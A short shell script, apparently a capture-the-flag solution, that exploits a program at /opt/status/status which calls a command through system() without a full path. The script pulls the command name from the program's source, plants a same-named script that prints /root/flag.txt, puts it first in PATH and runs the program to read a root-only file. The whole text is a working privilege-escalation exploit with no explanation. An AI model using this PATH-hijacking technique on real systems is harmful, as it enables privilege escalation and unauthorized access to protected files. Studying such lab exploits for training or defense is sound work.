tool=$(grep -o 'system("[a-z]*' /opt/status/status.c | cut -d'"' -f2)
mkdir -p bin
printf '#!/bin/sh\ncat /root/flag.txt\n' > "bin/$tool"
chmod 755 "bin/$tool"
PATH="$PWD/bin:$PATH" /opt/status/status
